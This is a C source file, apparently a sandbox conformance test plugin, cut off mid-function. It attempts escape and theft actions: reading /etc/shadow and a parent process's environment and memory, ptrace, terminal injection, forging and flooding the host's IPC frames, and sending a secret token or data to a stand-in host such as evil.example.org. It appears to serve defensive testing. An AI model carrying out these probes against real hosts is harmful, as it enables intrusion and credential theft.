/* A plugin that tries whatever a vendor's closed binary could try: when it is loaded (in its constructor), in its entry
 * function, and in create(). Each attempt gives 0 if it succeeded, and otherwise the errno that stopped it. The ticket's
 * warnings list all attempts, each as "<when> <attempt> <errno's name, or OK>".
 *
 * An attempt that succeeds does no harm: what it makes it removes, children end at once, and the signals that it sends are
 * number 0, which does nothing. Where a C library could hide the kernel's answer by falling back to another call, the
 * attempt makes the system call itself. */
#define _GNU_SOURCE
#include "ticket_plugin_helpers.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/fs.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static int failed(long result) { return result < 0 ? errno : 0; }

/* The result of a call that opens a descriptor, which is closed again. */
static int opened(long file) {
   if (file < 0) return errno;
   close((int)file);
   return 0;
}

/* ---- Network ---- */

static int reach(int family, int kind, int protocol, const void *address, socklen_t size, int bound) {
   const int s = socket(family, kind, protocol);
   if (s < 0) return errno;
   const int result = failed(bound ? bind(s, address, size) : connect(s, address, size));
   close(s);
   return result;
}

static const struct sockaddr_in discard = {.sin_family = AF_INET, .sin_port = 0x0900, .sin_addr = {0x0100007f}};
static const struct sockaddr_in any_port = {.sin_family = AF_INET, .sin_addr = {0x0100007f}};
static const struct sockaddr_in6 discard6 = {.sin6_family = AF_INET6, .sin6_port = 0x0900, .sin6_addr = IN6ADDR_LOOPBACK_INIT};

static int tcp_connect(void) { return reach(AF_INET, SOCK_STREAM, 0, &discard, sizeof discard, 0); }
static int tcp6_connect(void) { return reach(AF_INET6, SOCK_STREAM, 0, &discard6, sizeof discard6, 0); }
static int tcp_bind(void) { return reach(AF_INET, SOCK_STREAM, 0, &any_port, sizeof any_port, 1); }
static int udp_connect(void) { return reach(AF_INET, SOCK_DGRAM, 0, &discard, sizeof discard, 0); }
static int udp_bind(void) { return reach(AF_INET, SOCK_DGRAM, 0, &any_port, sizeof any_port, 1); }
static int raw_socket(void) { return opened(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)); }
static int ping_socket(void) { return opened(socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP)); }
static int packet_socket(void) { return opened(socket(AF_PACKET, SOCK_RAW, 0)); }
static int netlink_socket(void) { return opened(socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE)); }
static int vsock_socket(void) { return opened(socket(AF_VSOCK, SOCK_STREAM, 0)); }
static int unix_connect(void) {
   const struct sockaddr_un bus = {AF_UNIX, "/run/dbus/system_bus_socket"};
   return reach(AF_UNIX, SOCK_STREAM, 0, &bus, sizeof bus, 0);
}
static int unix_abstract(void) {
   const struct sockaddr_un name = {AF_UNIX, "\0ticket-host-nobody"};
   return reach(AF_UNIX, SOCK_STREAM, 0, &name, sizeof name, 0);
}
static int socket_pair(void) {
   int ends[2];
   if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0) return errno;
   close(ends[0]);
   close(ends[1]);
   return 0;
}
static int io_uring(void) {
   uint8_t parameters[120] = {0};
   return opened(syscall(SYS_io_uring_setup, 1, parameters));
}

/* ---- Files ---- */

static int readable(const char *path) { return opened(open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK)); }
static int of_parent(const char *what) {
   char path[64];
   snprintf(path, sizeof path, "/proc/%d/%s", (int)getppid(), what);
   return readable(path);
}

static int read_passwd(void) { return readable("/etc/passwd"); }
static int read_shadow(void) { return readable("/etc/shadow"); }
static int list_root(void) { return opened(open("/", O_RDONLY | O_DIRECTORY)); }
static int list_home(void) { return opened(open("/root", O_RDONLY | O_DIRECTORY)); }
static int list_processes(void) { return opened(open("/proc", O_RDONLY | O_DIRECTORY)); }
static int list_here(void) { return opened(open(".", O_RDONLY | O_DIRECTORY)); }
static int read_parent_environ(void) { return of_parent("environ"); }
static int read_parent_cmdline(void) { return of_parent("cmdline"); }
static int read_parent_memory(void) { return of_parent("mem"); }
static int read_parent_descriptor(void) { return of_parent("fd/0"); }
static int read_parent_maps(void) { return of_parent("maps"); }
static int read_own_environ(void) {
   char byte;
   const int file = open("/proc/self/environ", O_RDONLY);
   if (file < 0) return errno;
   const ssize_t got = read(file, &byte, 1);
   close(file);
   return got > 0 ? 0 : ENODATA;
}
static int see_environment(void) { return environ != NULL && environ[0] != NULL ? 0 : ENODATA; }

/* A name in the directory that no other process uses, so that tests which run at once don't meet. It is good until the
 * next one is asked for. */
static const char *own_name(const char *directory) {
   static char path[64];
   snprintf(path, sizeof path, "%sticket-host-hostile-%d", directory, (int)getpid());
   return path;
}
static int made_with(const char *path, mode_t mode) {
   const int result = opened(open(path, O_WRONLY | O_CREAT | O_EXCL, mode));
   if (result == 0) unlink(path);
   return result;
}
static int made(const char *directory) { return made_with(own_name(directory), 0600); }
static int made_directory(mode_t mode) {
   const char *const path = own_name("/tmp/");
   const int result = failed(mkdir(path, mode));
   if (result == 0) rmdir(path);
   return result;
}
static int write_tmp(void) { return made("/tmp/"); }
static int write_var_tmp(void) { return made("/var/tmp/"); }
static int write_shared_memory(void) { return made("/dev/shm/"); }
static int write_here(void) { return made(""); }
static int make_directory(void) { return made_directory(0700); }
static int make_link(void) {
   const char *const path = own_name("/tmp/");
   const int result = failed(symlink("/etc/passwd", path));
   if (result == 0) unlink(path);
   return result;
}
static int make_pipe(void) {
   const char *const path = own_name("/tmp/");
   const int result = failed(mkfifo(path, 0600));
   if (result == 0) unlink(path);
   return result;
}
/* A file whose program would run as the file's owner, made in each way in which a mode can be given. */
static int make_setuid(void) { return made_with(own_name("/tmp/"), 04700); }
static int make_setgid(void) {
   const char *const path = own_name("/tmp/");
#ifdef SYS_creat
   const int result = opened(syscall(SYS_creat, path, 02700));
#else
   const int result = opened(open(path, O_WRONLY | O_CREAT | O_TRUNC, 02700));
#endif
   if (result == 0) unlink(path);
   return result;
}
static int make_unnamed_setuid(void) { return opened(open("/tmp", O_WRONLY | O_TMPFILE, 04700)); }
static int make_setuid_directory(void) { return made_directory(04700); }
/* A name that doesn't exist can't be moved, so nothing is made even where that is allowed. */
static int make_whiteout(void) {
   return failed(syscall(SYS_renameat2, AT_FDCWD, "/tmp/ticket-host-nowhere", AT_FDCWD, "/tmp/ticket-host-there", RENAME_WHITEOUT));
}
/* These set what is set already, or change what doesn't exist, so that nothing changes if they succeed. */
static int change_mode(void) { return failed(syscall(SYS_fchmodat, AT_FDCWD, "/tmp", 01777)); }
static int change_owner(void) { return failed(syscall(SYS_fchownat, AT_FDCWD, "/tmp", -1, -1, 0)); }
static int change_time(void) {
   const struct timespec as_it_is[2] = {{0, UTIME_OMIT}, {0, UTIME_OMIT}};
   return failed(syscall(SYS_utimensat, AT_FDCWD, "/tmp", as_it_is, 0));
}
static int truncate_file(void) { return failed(syscall(SYS_truncate, "/dev/null/none", 0)); }
/* Both do nothing to a device: what the kernel's first checks say is seen. */
static int empty_readable(void) { return opened(open("/dev/null", O_RDONLY | O_TRUNC)); }
static int open_for_nothing(void) { return opened(open("/dev/null", O_ACCMODE)); }
/* A pipe has no such attributes (ENOTTY). */
static int change_attributes(void) {
   int none = 0;
   return failed(ioctl(2, FS_IOC_SETFLAGS, &none));
}
static int read_attributes(void) {
   char value[16];
   return failed(getxattr("/etc/passwd", "user.none", value, sizeof value));
}
static int sync_disks(void) { return failed(syscall(SYS_syncfs, -1)); }
static int memory_file(void) { return opened(syscall(SYS_memfd_create, "x", 0)); }
static int secret_memory_file(void) { return opened(syscall(SYS_memfd_secret, 0)); }
/* Takes disk without making the file larger. */
static int keep_disk(void) {
   const char *const path = own_name("/tmp/");
   const int file = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
   if (file < 0) return errno;
   const int result = failed(fallocate(file, FALLOC_FL_KEEP_SIZE, 0, 1 << 20));
   close(file);
   unlink(path);
   return result;
}
/* Makes a file larger than a worker's limit allows; the file is removed at once. */
static int fill_disk(void) {
   const char *const path = own_name("/tmp/");
   const int file = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
   if (file < 0) return errno;
   signal(SIGXFSZ, SIG_IGN);
   const int result = failed(ftruncate(file, (off_t)1 << 30));
   close(file);
   unlink(path);
   return result;
}
static int open_by_handle(void) {
   uint32_t handle[8] = {0};
   return opened(syscall(SYS_open_by_handle_at, AT_FDCWD, handle, 0));
}
static int watch_files(void) { return opened(syscall(SYS_inotify_init1, 0)); }
static int watch_all_files(void) { return opened(syscall(SYS_fanotify_init, 0, 0)); }

/* ---- Programs and processes ---- */

static int ended(long child) {
   if (child == 0) _exit(0);
   if (child < 0) return errno;
   waitpid((pid_t)child, NULL, 0);
   return 0;
}
static int fork_child(void) {
#ifdef SYS_fork
   return ended(syscall(SYS_fork));
#else
   return ended(syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0));
#endif
}
static int clone_child(void) { return ended(syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0)); }
static int clone3_child(void) {
   uint64_t arguments[8] = {0, 0, 0, 0, SIGCHLD};
   return ended(syscall(SYS_clone3, arguments, sizeof arguments));
}
static int clone_namespace(void) { return ended(syscall(SYS_clone, SIGCHLD | CLONE_NEWUSER, 0, 0, 0, 0)); }
/* The kernel refuses these with EINVAL, after the sandbox had its say: handlers of signals are shared only with the
 * memory, and the last descriptor isn't before the first. */
static int child_of_host(void) { return ended(syscall(SYS_clone, SIGCHLD | CLONE_PARENT | CLONE_SIGHAND, 0, 0, 0, 0)); }
static int continue_by_child(void) { return ended(syscall(SYS_clone, SIGCONT | CLONE_SIGHAND, 0, 0, 0, 0)); }
/* The timer's signal would come when the host has stopped this process. */
static int continue_by_timer(void) {
   struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGCONT};
   int timer = 0;
   if (syscall(SYS_timer_create, CLOCK_MONOTONIC, &event, &timer) != 0) return errno;
   return failed(syscall(SYS_timer_delete, timer));
}
static int wake_itself(void) { return failed(kill(getpid(), SIGCONT)); }
static int share_memory(void) {
   void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
   return memory == MAP_FAILED ? errno : failed(munmap(memory, 4096));
}
static int unshare_descriptors(void) { return failed(syscall(SYS_close_range, 2, 1, CLOSE_RANGE_UNSHARE)); }
static int end_at_once(void *argument) { return argument != NULL; }
/* A thread with descriptors of its own, of which it could open as many as the process may. Its stack is never freed,
 * since nothing tells when the thread has ended. */
static int thread_with_descriptors(void) {
   char *const stack = malloc(1 << 16);
   if (stack == NULL) return errno;
   return failed(clone(end_at_once, stack + (1 << 16), CLONE_VM | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, NULL));
}
/* The arguments are at an invalid address, so that the program isn't started even if that were allowed (EFAULT). */
static int exec_program(void) {
   char *const nowhere = (char *)8;
   return failed(syscall(SYS_execve, "/bin/true", nowhere, nowhere));
}
static int exec_memory(void) { return failed(syscall(SYS_execveat, -1, "", (void *)8, (void *)8, AT_EMPTY_PATH)); }
static int trace_parent(void) {
   const int result = failed(syscall(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, getppid(), 0, 0));
   if (result == 0) syscall(SYS_ptrace, 17 /* PTRACE_DETACH */, getppid(), 0, 0);
   return result;
}
static int copy_parent_memory(void) {
   char byte;
   const struct iovec here = {&byte, 1}, there = {(void *)&discard, 1};
   return failed(syscall(SYS_process_vm_readv, getppid(), &here, 1, &there, 1, 0));
}
static int write_parent_memory(void) {
   char byte = 0;
   const struct iovec here = {&byte, 1}, there = {(void *)8, 1};
   return failed(syscall(SYS_process_vm_writev, getppid(), &here, 1, &there, 1, 0));
}
static int open_parent(void) { return opened(syscall(SYS_pidfd_open, getppid(), 0)); }
static int take_descriptor(void) { return opened(syscall(SYS_pidfd_getfd, -1, 0, 0)); }
static int signal_parent(void) { return failed(kill(getppid(), 0)); }
static int signal_group(void) { return failed(kill(0, 0)); }
static int signal_everybody(void) { return failed(kill(-1, 0)); }
static int signal_thread(void) { return failed(syscall(SYS_tgkill, getppid(), getppid(), 0)); }
static int queue_signal(void) { return failed(sigqueue(getppid(), 0, (union sigval){0})); }
static int signal_by_descriptor(void) {
   const int result = failed(fcntl(2, F_SETOWN, getppid()));
   if (result == 0) fcntl(2, F_SETOWN, 0);
   return result;
}
static int choose_signal(void) { return failed(fcntl(2, F_SETSIG, 0)); }
static int signal_of_terminal(void) {
   const int flags = fcntl(2, F_GETFL);
   const int result = failed(fcntl(2, F_SETFL, flags | O_ASYNC));
   if (result == 0) fcntl(2, F_SETFL, flags);
   return result;
}
static int thread_in_namespace(void) {
   /* A thread needs more flags than these, so the kernel refuses this too: with EINVAL, and the sandbox with EPERM. */
   return failed(syscall(SYS_clone, CLONE_THREAD | CLONE_NEWNET, 0, 0, 0, 0));
}
static int slow_parent(void) { return failed(setpriority(PRIO_PROCESS, (id_t)getppid(), 0)); }
static int limit_parent(void) {
   struct rlimit now;
   return failed(prlimit(getppid(), RLIMIT_NOFILE, NULL, &now));
}
static int pin_parent(void) {
   cpu_set_t all;
   memset(&all, 0xff, sizeof all);
   return failed(sched_setaffinity(getppid(), sizeof all, &all));
}
static int new_session(void) { return failed(syscall(SYS_setpgid, getpid(), getpgrp())); }
/* Tried by a child, since the leader of a group can't do it anyway. */
static int leave_session(void) {
   const pid_t child = (pid_t)syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
   if (child == 0) _exit(failed(setsid()));
   if (child < 0) return errno;
   int status;
   waitpid(child, &status, 0);
   return WEXITSTATUS(status);
}

/* ---- Privileges and the kernel ---- */

static int raise_memory_limit(void) {
   const struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
   return failed(setrlimit(RLIMIT_AS, &all));
}
static int raise_file_limit(void) {
   const struct rlimit more = {1 << 16, 1 << 16};
   return failed(setrlimit(RLIMIT_NOFILE, &more));
}
static int be_dumpable(void) { return failed(prctl(PR_SET_DUMPABLE, 1)); }
static int outlive_host(void) { return failed(prctl(PR_SET_PDEATHSIG, 0)); }
static int be_traced(void) { return failed(prctl(PR_SET_PTRACER, -1)); }
static int adopt_orphans(void) { return failed(prctl(PR_SET_CHILD_SUBREAPER, 0)); }
static int have_capabilities(void) {
   struct __user_cap_header_struct version = {_LINUX_CAPABILITY_VERSION_3, 0};
   struct __user_cap_data_struct sets[2];
   if (syscall(SYS_capget, &version, sets) != 0) return errno;
   for (int i = 0; i < 2; i++)
      if (sets[i].effective != 0 || sets[i].permitted != 0 || sets[i].inheritable != 0) return 0;
   return ENODATA;
}
/* The filter is at an invalid address, so that it isn't installed even if that were allowed (EFAULT). */
static int own_filter(void) { return failed(syscall(SYS_seccomp, 1 /* SECCOMP_SET_MODE_FILTER */, 0, 8)); }
static int own_filter_by_prctl(void) { return failed(prctl(PR_SET_SECCOMP, 2 /* SECCOMP_MODE_FILTER */, 8)); }
/* Memory that is written and then run. */
static int make_code(void) {
   void *const page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
   if (page == MAP_FAILED) return errno;
   const int result = failed(mprotect(page, 4096, PROT_READ | PROT_EXEC));
   munmap(page, 4096);
   return result;
}
static int gain_privileges(void) { return prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 0 ? 0 : ENODATA; }
static int dump_core(void) {
   struct rlimit core;
   getrlimit(RLIMIT_CORE, &core);
   return core.rlim_max > 0 ? 0 : ENODATA;
}
static int set_user(void) { return failed(syscall(SYS_setuid, getuid())); }
static int new_user_space(void) { return failed(syscall(SYS_unshare, 0)); }
static int join_namespace(void) { return failed(syscall(SYS_setns, -1, 0)); }
static int mount_files(void) { return failed(syscall(SYS_mount, "none", "/nowhere", "tmpfs", 0, "")); }
static int change_root(void) { return failed(chroot("/nowhere")); }
static int load_program(void) { return opened(syscall(SYS_bpf, 5 /* BPF_PROG_LOAD */, NULL, 0)); }
static int count_events(void) { return opened(syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0)); }
static int handle_faults(void) { return opened(syscall(SYS_userfaultfd, 0)); }
static int read_keys(void) { return failed(syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0)); }
static int add_key(void) { return failed(syscall(SYS_add_key, "user", "", "", 0, -3)); }
static int load_module(void) { return failed(syscall(SYS_finit_module, -1, "", 0)); }
static int read_kernel_log(void) { return failed(syscall(SYS_syslog, 10 /* SIZE_BUFFER */, NULL, 0)); }
static int set_clock(void) { return failed(syscall(SYS_clock_settime, CLOCK_REALTIME, NULL)); }
static int other_personality(void) { return failed(syscall(SYS_personality, 0xffffffff)); }
static int shared_memory(void) { return failed(syscall(SYS_shmget, 0x7fffffff, 1, 0)); }
static int message_queue(void) { return failed(syscall(SYS_msgget, 0x7fffffff, 0)); }
static int semaphores(void) { return failed(syscall(SYS_semget, 0x7fffffff, 1, 0)); }
static int type_into_terminal(void) { return failed(ioctl(2, TIOCSTI, "x")); }
static int size_of_queue(void) {
   int bytes;
   return failed(ioctl(0, FIONREAD, &bytes));
}

/* ---- Resources ---- */

static int keep_signals_waiting(void) {
   struct rlimit waiting;
   getrlimit(RLIMIT_SIGPENDING, &waiting);
   return waiting.rlim_max > 128 ? 0 : ENODATA;
}
static int queue_io(void) {
   unsigned long queue = 0;
   const int result = failed(syscall(SYS_io_setup, 1, &queue));
   if (result == 0) syscall(SYS_io_destroy, queue);
   return result;
}
static int give_pages(void) { return failed(syscall(SYS_vmsplice, -1, NULL, 0, 0)); }
static int take_memory(void) {
   const size_t much = (size_t)100 << 30;
   void *got = mmap(NULL, much, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
   if (got == MAP_FAILED) return errno;
   munmap(got, much);
   return 0;
}
static int take_descriptors(void) {
   int files[4096], count = 0, result = 0;
   for (; count < 4096; count++)
      if ((files[count] = dup(2)) < 0) { result = errno; break; }
   while (count > 0) close(files[--count]);
   return result;
}

/* These are allowed. They show that the attempts above fail because of the sandbox, and not because all calls fail. */
static void *nothing(void *argument) { return argument; }
static int allowed_thread(void) {
   pthread_t thread;
   const int result = pthread_create(&thread, NULL, nothing, NULL);
   if (result == 0) pthread_join(thread, NULL);
   return result;
}
static int allowed_random(void) { return readable("/dev/urandom"); }
/* What stands where a mode would stand means nothing if no file is made. */
static int allowed_any_mode(void) { return opened(syscall(SYS_openat, AT_FDCWD, "/dev/null", O_RDONLY, 07777)); }
static int allowed_flags(void) { return failed(fcntl(2, F_GETFL)); }
static _Atomic int woken;
static int paused;
static void wake(int signal) { (void)signal; }
static void *pause_once(void *argument) {
   paused = pause() == -1 && errno == EINTR ? 0 : errno;
   woken = 1;
   return argument;
}
static int allowed_pause(void) {
   const struct sigaction waking = {.sa_handler = wake};
   struct sigaction before;
   pthread_t thread;
   woken = 0;
   sigaction(SIGUSR1, &waking, &before);
   const int result = pthread_create(&thread, NULL, pause_once, NULL);
   if (result != 0) return result;
   /* The first signals may come before it pauses. */
   while (!woken) {
      pthread_kill(thread, SIGUSR1);
      sched_yield();
   }
   pthread_join(thread, NULL);
   sigaction(SIGUSR1, &before, NULL);
   return paused;
}
static int allowed_library(void) { return readable("/etc/ld.so.cache"); }

#define ATTEMPT(name) {#name, name}
static const struct { const char *name; int (*attempt)(void); } attempts[] = {
   ATTEMPT(tcp_connect), ATTEMPT(tcp6_connect), ATTEMPT(tcp_bind), ATTEMPT(udp_connect), ATTEMPT(udp_bind),
   ATTEMPT(raw_socket), ATTEMPT(packet_socket), ATTEMPT(netlink_socket), ATTEMPT(vsock_socket),
   ATTEMPT(unix_connect), ATTEMPT(unix_abstract), ATTEMPT(socket_pair), ATTEMPT(io_uring),
   ATTEMPT(read_passwd), ATTEMPT(read_shadow), ATTEMPT(list_root), ATTEMPT(list_home), ATTEMPT(list_processes),
   ATTEMPT(list_here), ATTEMPT(read_parent_environ), ATTEMPT(read_parent_cmdline), ATTEMPT(read_parent_memory),
   ATTEMPT(read_parent_descriptor), ATTEMPT(read_parent_maps), ATTEMPT(read_own_environ), ATTEMPT(see_environment),
   ATTEMPT(write_tmp), ATTEMPT(write_var_tmp), ATTEMPT(write_shared_memory), ATTEMPT(write_here), ATTEMPT(fill_disk),
   ATTEMPT(make_directory), ATTEMPT(make_link), ATTEMPT(make_pipe), ATTEMPT(change_mode), ATTEMPT(change_owner),
   ATTEMPT(change_time), ATTEMPT(truncate_file), ATTEMPT(memory_file), ATTEMPT(open_by_handle),
   ATTEMPT(watch_files), ATTEMPT(watch_all_files),
   ATTEMPT(fork_child), ATTEMPT(clone_child), ATTEMPT(clone3_child), ATTEMPT(clone_namespace),
   ATTEMPT(exec_program), ATTEMPT(exec_memory), ATTEMPT(trace_parent), ATTEMPT(copy_parent_memory),
   ATTEMPT(write_parent_memory), ATTEMPT(open_parent), ATTEMPT(take_descriptor), ATTEMPT(signal_parent),
   ATTEMPT(signal_group), ATTEMPT(signal_everybody), ATTEMPT(signal_thread), ATTEMPT(queue_signal),
   ATTEMPT(signal_by_descriptor), ATTEMPT(choose_signal), ATTEMPT(thread_in_namespace),
   ATTEMPT(slow_parent), ATTEMPT(limit_parent), ATTEMPT(pin_parent), ATTEMPT(new_session),
   ATTEMPT(raise_memory_limit), ATTEMPT(raise_file_limit), ATTEMPT(be_dumpable), ATTEMPT(outlive_host),
   ATTEMPT(be_traced), ATTEMPT(gain_privileges), ATTEMPT(dump_core), ATTEMPT(set_user), ATTEMPT(new_user_space),
   ATTEMPT(join_namespace), ATTEMPT(mount_files), ATTEMPT(change_root), ATTEMPT(load_program),
   ATTEMPT(count_events), ATTEMPT(handle_faults), ATTEMPT(read_keys), ATTEMPT(add_key), ATTEMPT(load_module),
   ATTEMPT(read_kernel_log), ATTEMPT(set_clock), ATTEMPT(other_personality), ATTEMPT(shared_memory),
   ATTEMPT(message_queue), ATTEMPT(semaphores), ATTEMPT(type_into_terminal), ATTEMPT(size_of_queue),
   ATTEMPT(take_memory), ATTEMPT(take_descriptors),
   ATTEMPT(ping_socket), ATTEMPT(make_setuid), ATTEMPT(make_setgid), ATTEMPT(make_unnamed_setuid),
   ATTEMPT(make_setuid_directory), ATTEMPT(make_whiteout), ATTEMPT(empty_readable), ATTEMPT(open_for_nothing),
   ATTEMPT(change_attributes), ATTEMPT(read_attributes), ATTEMPT(sync_disks), ATTEMPT(secret_memory_file),
   ATTEMPT(keep_disk), ATTEMPT(child_of_host), ATTEMPT(continue_by_child), ATTEMPT(wake_itself), ATTEMPT(share_memory), ATTEMPT(continue_by_timer), ATTEMPT(unshare_descriptors), ATTEMPT(thread_with_descriptors),
   ATTEMPT(leave_session), ATTEMPT(signal_of_terminal), ATTEMPT(adopt_orphans), ATTEMPT(have_capabilities),
   ATTEMPT(own_filter), ATTEMPT(own_filter_by_prctl), ATTEMPT(make_code), ATTEMPT(keep_signals_waiting),
   ATTEMPT(queue_io), ATTEMPT(give_pages),
   ATTEMPT(allowed_thread), ATTEMPT(allowed_random), ATTEMPT(allowed_library), ATTEMPT(allowed_any_mode), ATTEMPT(allowed_flags),
   ATTEMPT(allowed_pause),
};
enum { ATTEMPTS = sizeof attempts / sizeof attempts[0] };

static int constructor_results[ATTEMPTS], entry_results[ATTEMPTS];

static void try_all(int *results) {
   for (int i = 0; i < ATTEMPTS; i++) {
      errno = 0;
      results[i] = attempts[i].attempt();
   }
}

/* The variant QUIET tries nothing when it is loaded: where a half of the sandbox is absent, it could make files and not
 * remove them. */
#ifdef QUIET
enum { TRIES_WHEN_LOADED = 0 };
#else
enum { TRIES_WHEN_LOADED = 1 };
#endif

#ifdef FORGES_LOADED
/* Answers the host before the worker can. */
static const char loaded[] = "{\"Loaded\": {\"sdk\": \"1\\n INFO ticket 99: created\"}}";
static void forge(const char *head, const char *body);
__attribute__((constructor)) static void constructor(void) { forge(loaded, "{\"name\": \"forges_loaded\"}"); }
#else
__attribute__((constructor)) static void constructor(void) { if (TRIES_WHEN_LOADED) try_all(constructor_results); }
#endif

/* ---- The plugin ---- */

typedef struct hostile { ticket_text endpoint, fault, argument, token; } hostile;

static int32_t open_backend(const ticket_call *call, ticket_str settings, void **instance) {
   hostile *self = calloc(1, sizeof *self);
   if (self == NULL) return ticket_fail(call, TICKET_PLUGIN_ERROR, "later", "out of memory", ticket_of(""));
   const ticket_str information = ticket_member(settings, "information");
   ticket_put_unescaped(&self->endpoint, ticket_member(settings, "endpoint"));
   ticket_put_unescaped(&self->fault, ticket_member(information, "fault"));
   ticket_put_unescaped(&self->argument, ticket_member(information, "argument"));
   ticket_put_unescaped(&self->token, ticket_member(ticket_member(settings, "secret"), "token"));
   return *instance = self, TICKET_OK;
}

static int32_t check(void *instance, const ticket_call *call) {
   (void)instance;
   return ticket_reply(call, TICKET_OK, "{\"checks\": []}", "", ticket_of(""), "");
}

static int32_t find(void *instance, const ticket_call *call, ticket_str request) {
   (void)instance, (void)call, (void)request;
   return TICKET_NOT_FOUND;
}

static int is(const ticket_text *text, const char *name) {
   return text->len == strlen(name) && memcmp(text->bytes, name, text->len) == 0;
}

/* Writes to each pipe that it finds open. One of them is the worker's own to the host. */
static void write_to_pipes(const void *bytes, size_t count) {
   for (int file = 3; file < 64; file++) {
      struct stat about;
      if (fstat(file, &about) == 0 && S_ISFIFO(about.st_mode) && (fcntl(file, F_GETFL) & O_ACCMODE) == O_WRONLY)
         if (write(file, bytes, count) < 0) return;
   }
}

/* Writes a frame as the worker itself would. */
static void forge(const char *head, const char *body) {
   char frame[512];
   const uint32_t lengths[2] = {(uint32_t)strlen(head), (uint32_t)strlen(body)};
   memcpy(frame, lengths, 8);
   memcpy(frame + 8, head, lengths[0]);
   memcpy(frame + 8 + lengths[0], body, lengths[1]);
   write_to_pipes(frame, 8 + lengths[0] + lengths[1]);
}

/* As forge(), with a head and a body of any size. */
static void forge_large(const char *head, const char *body, size_t body_count) {
   const size_t count = strlen(head);
   const uint32_t lengths[2] = {(uint32_t)count, (uint32_t)body_count};
   for (int file = 3; file < 64; file++) {
      struct stat about;
      if (fstat(file, &about) != 0 || !S_ISFIFO(about.st_mode) || (fcntl(file, F_GETFL) & O_ACCMODE) != O_WRONLY) continue;
      const struct {
         const void *bytes;
         size_t count;
      } parts[] = {{lengths, 8}, {head, count}, {body, body_count}};
      for (int i = 0; i < 3; i++)
         for (size_t done = 0; done < parts[i].count;) {
            const ssize_t wrote = write(file, (const char *)parts[i].bytes + done, parts[i].count - done);
            if (wrote <= 0) return;
            done += (size_t)wrote;
         }
   }
}

/* Forges frames that are larger, or more, than the host's bounds allow. */
static void flood(const ticket_text *fault) {
   const size_t size = (size_t)60 << 20;
   char *large = malloc(size);
   memset(large, 'x', size);
   if (is(fault, "forged_headers")) {
      char *head = malloc((size_t)1 << 20);
      size_t end = (size_t)sprintf(head, "{\"Http\": {\"method\": \"GET\", \"url\": \"https://tickets.example.org/\", \"headers\": [");
      for (int i = 0; i < 30000; i++) end += (size_t)sprintf(head + end, "%s[\"x-%d\", \"\"]", i > 0 ? ", " : "", i);
      sprintf(head + end, "]}}");
      forge_large(head, "", 0);
   }
   if (is(fault, "forged_log")) forge_large("{\"Log\": {\"level\": 1}}", large, size);
   if (is(fault, "forged_extra")) forge_large("{\"Render\": {\"part\": \"body\", \"format\": \"html\"}}", large, size);
   if (is(fault, "forged_reply")) forge_large("{\"Returned\": {\"status\": 0, \"replied\": true, \"bad\": null}}", large, size);
   if (is(fault, "forged_requests"))
      for (int i = 0; i < 20; i++)
         forge_large("{\"Http\": {\"method\": \"POST\", \"url\": \"https://evil.example.org/\", \"headers\": []}}", large, (size_t)15 << 20);
   if (is(fault, "forged_heads")) {
      /* A head of 2 MiB, of which a member that nobody knows is the most. */
      const size_t most = ((size_t)2 << 20) - 1;
      char *head = malloc(most + 1);
      memset(head, 'x', most);
      memcpy(head, "{\"Log\":{\"level\":5,\"more\":\"", 27);
      memcpy(head + most - 3, "\"}}", 4);
      for (int i = 0; i < 16384; i++) forge_large(head, "", 0);
   }
   if (is(fault, "forged_often"))
      for (int i = 0; i < 100000; i++) forge_large("{\"Log\": {\"level\": 1}}", "", 0);
   if (is(fault, "forged_lines"))
      for (int i = 0; i < 100000; i++) forge_large("{\"Log\": {\"level\": 1}}", large, 16 << 10);
   free(large);
}

static void *print_for_ever(void *nothing_more) {
   (void)nothing_more;
   static char line[4096];
   memset(line, 'x', sizeof line);
   for (;;)
      if (write(2, line, sizeof line) < 0) return NULL;
}

static void *go_on(void *nothing_more) {
   (void)nothing_more;
   for (;;) {
      forge("{\"Log\": {\"level\": 1}}", "written after the call");
      nanosleep(&(struct timespec){0, 1000000}, NULL);
   }
   return NULL;
}

static int32_t create(void *instance, const ticket_call *call, ticket_str request) {
   hostile *self = instance;
   (void)request;
   if (is(&self->fault, "http")) {
      /* The secret is sent along, so that a test can see whether it arrives somewhere. */
      const ticket_header header = {ticket_of("authorization"), ticket_view(&self->token)};
      const ticket_exchange done = ticket_http(call, "GET", ticket_view(&self->argument), &header, 1, ticket_of(""));
      if (done.sent == TICKET_HTTP_DENIED) return ticket_fail(call, TICKET_SETTINGS_ERROR, "never", "denied: ", done.why);
      return ticket_fail(call, TICKET_PLUGIN_ERROR, "never", "it went out: ", done.why);
   }
   if (is(&self->fault, "read")) {
      char path[256];
      snprintf(path, sizeof path, "%.*s", (int)self->argument.len, (const char *)self->argument.bytes);
      const int result = readable(path);
